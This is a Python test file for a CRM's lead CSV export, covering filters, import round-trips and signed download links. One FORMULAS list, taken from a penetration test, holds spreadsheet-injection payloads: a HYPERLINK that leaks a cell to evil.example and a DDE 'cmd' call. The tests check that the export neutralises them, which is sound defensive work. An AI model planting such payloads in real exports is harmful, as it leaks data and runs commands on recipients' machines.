"""CSV export: exactly the list's leads (filter, search, sort, all pages), readable by the importer;
and the signed link that guards the download."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import httpx
import pytest
from sqlalchemy import text
from sqlmodel import Session

from crm_app.api import EXPORT_PATH, EXPORT_PURPOSE, api
from crm_app.db.models import utcnow
from crm_app.db.queries import LeadFilter
from crm_app.domain import ActivityKind, Source, Stage
from crm_app.services import accounts
from crm_app.services.exporting import filter_to_dict, stream_leads_csv
from crm_app.services.importing import ImportMapping, guess_mapping, import_file
from crm_app.services.signed_links import InvalidLink, sign_link, verify_link
from tests.conftest import NOW, run_async
from tests.factories import TEST_PASSWORD, make_lead, make_user


def exported(session, flt: LeadFilter, sort: str = "score") -> list[dict[str, str]]:
    text = "".join(stream_leads_csv(session.connection(), flt, sort))
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def team(session):
    ria = make_user(session, "Ria Rep")
    leads = [
        make_lead(session, "Ada Lovelace", now=NOW, owner=ria, company="Engines", company_size=120,
                  source=Source.REFERRAL, deal_value=48000,
                  activities=[(ActivityKind.PRICING_REQUEST, timedelta(minutes=20))]),
        make_lead(session, "Grace Hopper", now=NOW, owner=ria, company="Compilers", source=Source.WEBINAR,
                  stage=Stage.CONTACTED, deal_value=12000),
        make_lead(session, "Alan Turing", now=NOW, company="Bletchley", company_size=800, source=Source.LINKEDIN),
    ]
    leads[2].custom_fields = {"Industry": "Defence", "Budget": 5000}
    session.add(leads[2])
    session.commit()
    return ria, leads


def test_export_has_every_matching_lead_in_list_order_with_reasons_in_words(session, team):
    ria, _ = team
    rows = exported(session, LeadFilter(owner_id=ria.id))
    assert [r["Name"] for r in rows] == ["Ada Lovelace", "Grace Hopper"]
    ada = rows[0]
    assert (ada["Score"], ada["Tier"], ada["Source"], ada["Owner"], ada["Deal value"]) == (
        "65", "Warm", "Referral", "Ria Rep", "48000.00")
    assert "+30 Asked for pricing" in ada["Why (score reasons)"]
    assert "+10 " in ada["Why (score reasons)"]
    by_value = exported(session, LeadFilter(), sort="value")
    assert [r["Name"] for r in by_value] == ["Ada Lovelace", "Grace Hopper", "Alan Turing"]


def test_search_and_filters_narrow_the_export_and_custom_fields_become_columns(session, team):
    rows = exported(session, LeadFilter(search="bletch"))
    assert [r["Name"] for r in rows] == ["Alan Turing"]
    assert (rows[0]["Industry"], rows[0]["Budget"], rows[0]["Owner"]) == ("Defence", "5000", "")
    assert exported(session, LeadFilter(stage="contacted"))[0]["Name"] == "Grace Hopper"
    assert [r["Name"] for r in exported(session, LeadFilter(tier="warm"))] == ["Ada Lovelace"]
    assert exported(session, LeadFilter(tier="hot")) == []


def test_an_export_imports_back_without_duplicates(session, team, tmp_path):
    path = tmp_path / "export.csv"
    path.write_text("".join(stream_leads_csv(session.connection(), LeadFilter())))
    header = next(csv.reader(path.open()))
    columns = {**guess_mapping(header), "Owner": "ignore", "Score": "ignore", "Tier": "ignore",
               "Why (score reasons)": "ignore", "In stage since": "ignore", "Pipeline CRM id": "ignore"}
    summary = import_file(session, path, ImportMapping(columns=columns), now=NOW)
    assert (summary.created, summary.updated) == (0, 0)
    assert summary.skipped == 3


def test_signed_links_expire_and_refuse_tampering():
    token = sign_link("export-leads", {"tier": "hot"}, now=NOW, key=b"k")
    assert verify_link("export-leads", token, now=NOW + timedelta(minutes=4), key=b"k") == {"tier": "hot"}
    with pytest.raises(InvalidLink, match="expired"):
        verify_link("export-leads", token, now=NOW + timedelta(minutes=6), key=b"k")
    with pytest.raises(InvalidLink, match="not valid"):
        verify_link("export-leads", token, now=NOW, key=b"another key")
    body, _, mac = token.partition(".")
    forged = sign_link("export-leads", {"tier": "cold"}, now=NOW, key=b"k").partition(".")[0] + "." + mac
    with pytest.raises(InvalidLink):
        verify_link("export-leads", forged, now=NOW, key=b"k")
    with pytest.raises(InvalidLink, match="something else"):
        verify_link("import", token, now=NOW, key=b"k")


def test_export_then_import_keeps_numbers_numbers(session, tmp_path):
    """A file with formatted numbers, imported, exported and imported again: every number stays a
    number (deal value, company size, numeric custom fields), and the export writes them plainly."""
    source = tmp_path / "crm.csv"
    source.write_text(
        "Name,Email,Amount,Employees,Budget,Share,Tiny\n"
        'Mia Numbers,mia@example.com,"$12,000.50","1,532","€ 3 400",12%,0.00001\n'
        'Leo Numbers,leo@example.com,"1,200",45,"-2,500",7.5%,1e-7\n'
    )
    header = ["Name", "Email", "Amount", "Employees", "Budget", "Share", "Tiny"]
    import_file(session, source, ImportMapping(columns=guess_mapping(header), defaults={"source": "website"}),
                now=NOW)
    first = {r.email: r for r in session.execute(text(
        "SELECT email, deal_value, company_size, custom_fields FROM leads "
        "WHERE email IN ('mia@example.com', 'leo@example.com')")).all()}
    assert first["mia@example.com"].custom_fields == {"Budget": 3400, "Share": 0.12, "Tiny": 0.00001}

    rows = exported(session, LeadFilter(search="Numbers"))
    mia = next(r for r in rows if r["Email"] == "mia@example.com")
    assert (mia["Deal value"], mia["Company size"], mia["Budget"], mia["Share"]) == (
        "12000.50", "1532", "3400", "0.12")
    numbers = ("Deal value", "Company size", "Budget", "Share", "Tiny")
    assert not any("," in r[k] for r in rows for k in numbers)

    path = tmp_path / "export.csv"
    path.write_text("".join(stream_leads_csv(session.connection(), LeadFilter(search="Numbers"))))
    session.execute(text("DELETE FROM leads WHERE email IN ('mia@example.com', 'leo@example.com')"))
    header = next(csv.reader(path.open()))
    columns = {**guess_mapping(header), "Owner": "ignore", "Score": "ignore", "Tier": "ignore",
               "Why (score reasons)": "ignore", "In stage since": "ignore", "Pipeline CRM id": "ignore"}
    summary = import_file(session, path, ImportMapping(columns=columns), now=NOW)
    assert summary.created == 2
    again = {r.email: r for r in session.execute(text(
        "SELECT email, deal_value, company_size, custom_fields FROM leads "
        "WHERE email IN ('mia@example.com', 'leo@example.com')")).all()}
    for email, before in first.items():
        assert (again[email].deal_value, again[email].company_size, again[email].custom_fields) == (
            before.deal_value, before.company_size, before.custom_fields)
    assert session.execute(text(
        "SELECT count(*) FROM leads, jsonb_each(custom_fields) f WHERE email IN ('mia@example.com', "
        "'leo@example.com') AND jsonb_typeof(f.value) <> 'number'")).scalar_one() == 0


# The cells the penetration test put in through forms, the API and imports (issue #17, item 1).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1,1)",
    "-2+3", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1,1)", "'=1+1",
]


def test_no_cell_of_an_export_starts_a_spreadsheet_formula_and_numbers_stay_numbers(session):
    ria = make_user(session, "Ria Rep")
    custom = {f"note {i}": text for i, text in enumerate(FORMULAS)}
    custom.update({"=evil header": "x", "Budget": -5000, "Ratio": -0.25, "As text": "-12.5",
                   "Phone 2": "+44 20 7946"})
    lead = make_lead(session, FORMULAS[0], now=NOW, owner=ria, company="@SUM(1,1)", deal_value=1234567,
                     activities=[(ActivityKind.PRICING_REQUEST, timedelta(minutes=20))])
    lead.title, lead.phone, lead.external_id, lead.custom_fields = "=1+1", "+44 20 7946 0958", "-1+1", custom
    session.add(lead)
    session.commit()
    text = "".join(stream_leads_csv(session.connection(), LeadFilter(owner_id=ria.id)))
    header, row = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, row))

    starts, number = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"), re.compile(r"-?\d+(\.\d+)?")
    dangerous = [cell for cell in [*row, *header] if cell[:1] in starts and not number.fullmatch(cell)]
    assert dangerous == []
    # Every formula is kept, as text: one leading quote, which restore_cell takes off again.
    from crm_app.services.exporting import restore_cell

    for i, formula in enumerate(FORMULAS):
        assert cells[f"note {i}"] == "'" + formula and restore_cell(cells[f"note {i}"]) == formula
    assert (cells["Name"], cells["Company"], cells["Job title"]) == ("'" + FORMULAS[0], "'@SUM(1,1)", "'=1+1")
    assert (cells["Phone"], cells["External id"]) == ("'+44 20 7946 0958", "'-1+1")
    assert cells["'=evil header"] == "x"  # a custom field's name is a header cell like any other
    assert cells["Why (score reasons)"].startswith("'+30 Asked for pricing")  # the generated reasons too
    # Numbers are plain numbers: negative ones too, no thousands separators, no quote.
    assert (cells["Budget"], cells["Ratio"], cells["As text"], cells["Deal value"]) == (
        "-5000", "-0.25", "-12.5", "1234567.00")
    assert cells["Score"].isdecimal() and cells["Pipeline CRM id"] == str(lead.id)


# --- The download route: a link lasts only as long as the sign-in it was made in (issue #17, item 4) ---


@pytest.fixture
def signed_in(engine, web_engine):
    """A rep with one lead, signed in; committed, because the route reads on connections of its own
    (as the owner for the session check, as the web app's login for the rows). Removed afterwards."""
    with Session(engine, expire_on_commit=False) as owner:
        rep = make_user(owner, "Xavier Exporter")
        lead = make_lead(owner, "Exported Lead", now=utcnow(), owner=rep)
        token, _ = accounts.sign_in(owner, email=rep.email, password=TEST_PASSWORD, now=utcnow())
        yield owner, rep, token
    with engine.begin() as conn:
        conn.execute(text("DELETE FROM leads WHERE id = :id"), {"id": lead.id})
        conn.execute(text("DELETE FROM sign_in_attempts WHERE email = :e"), {"e": rep.email})
        conn.execute(text("DELETE FROM audit_log WHERE actor_id = :id"), {"id": rep.id})
        conn.execute(text("DELETE FROM users WHERE id = :id"), {"id": rep.id})


def _get(url: str) -> httpx.Response:
    """A GET to the app's backend routes (crm_app/api.py), in process."""
    async def get() -> httpx.Response:
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=api), base_url="http://crm.test") as client:
            return await client.get(url)

    return run_async(get())


def _download(owner: Session, rep, token: str):
    """What the Leads page's Export button does (state/leads.export_csv), then the browser's GET."""
    session_id = accounts.live_session_id(owner, token, utcnow())
    assert session_id is not None
    link = sign_link(EXPORT_PURPOSE, {**filter_to_dict(LeadFilter(), "score"), "viewer": rep.id, "session": session_id},
                     now=utcnow())
    return lambda: _get(f"{EXPORT_PATH}?token={link}")


def test_an_export_link_stops_working_when_its_user_signs_out(signed_in):
    owner, rep, token = signed_in
    download = _download(owner, rep, token)
    first = download()
    assert first.status_code == 200 and "Exported Lead" in first.text
    accounts.sign_out(owner, token, utcnow())
    after = download()
    assert after.status_code == 403
    assert "has ended" in after.text and "sign in and export again" in after.text
    assert "Exported Lead" not in after.text


def test_an_export_link_stops_working_when_its_user_is_deactivated(signed_in):
    owner, rep, token = signed_in
    download = _download(owner, rep, token)
    assert download().status_code == 200
    # Only the account changes here (deactivating also signs out, which the test above covers).
    owner.execute(text("UPDATE users SET is_active = false WHERE id = :id"), {"id": rep.id})
    owner.commit()
    refused = download()
    assert refused.status_code == 403 and "deactivated" in refused.text and "Exported Lead" not in refused.text


def test_an_export_link_names_its_session(signed_in):
    """A link signed with the right key but for another user's session, or for none, is refused."""
    owner, rep, token = signed_in
    session_id = accounts.live_session_id(owner, token, utcnow())
    for claims in ({"viewer": rep.id}, {"viewer": rep.id + 1, "session": session_id}):
        link = sign_link(EXPORT_PURPOSE, {**filter_to_dict(LeadFilter(), "score"), **claims}, now=utcnow())
        response = _get(f"{EXPORT_PATH}?token={link}")
        assert response.status_code == 403 and "Exported Lead" not in response.text


def test_export_then_import_gives_back_the_formulas_as_typed(session, tmp_path):
    """The export protects formula-like text with a leading quote; importing that export stores the text
    as it was typed (TAB and CR kept), not with the quote, nor with its TAB or CR stripped."""
    ria = make_user(session, "Ria Rep")
    custom = {f"note {i}": text for i, text in enumerate(FORMULAS)}
    custom["=evil header"] = "=1+1"
    lead = make_lead(session, "=HYPERLINK(\"x\")", now=NOW, owner=ria, company="@SUM(1,1)")
    lead.title, lead.phone, lead.email, lead.custom_fields = "\t=1+1", "+44 20 7946 0958", "f@example.com", custom
    session.add(lead)
    session.commit()
    path = tmp_path / "export.csv"
    path.write_text("".join(stream_leads_csv(session.connection(), LeadFilter(owner_id=ria.id))), newline="")
    session.execute(text("DELETE FROM leads WHERE email = 'f@example.com'"))
    header = next(csv.reader(path.open(newline="")))
    columns = {**guess_mapping([h.lstrip("'") for h in header]), "Owner": "ignore", "Score": "ignore",
               "Tier": "ignore", "Why (score reasons)": "ignore", "In stage since": "ignore",
               "Pipeline CRM id": "ignore", "Created": "ignore"}
    summary = import_file(session, path, ImportMapping(columns=columns), now=NOW)
    assert summary.created == 1
    stored = session.execute(text("SELECT name, title, company, phone, custom_fields FROM leads "
                                  "WHERE email = 'f@example.com'")).one()
    assert (stored.name, stored.title, stored.company, stored.phone) == (
        "=HYPERLINK(\"x\")", "\t=1+1", "@SUM(1,1)", "+44 20 7946 0958")
    assert stored.custom_fields == custom
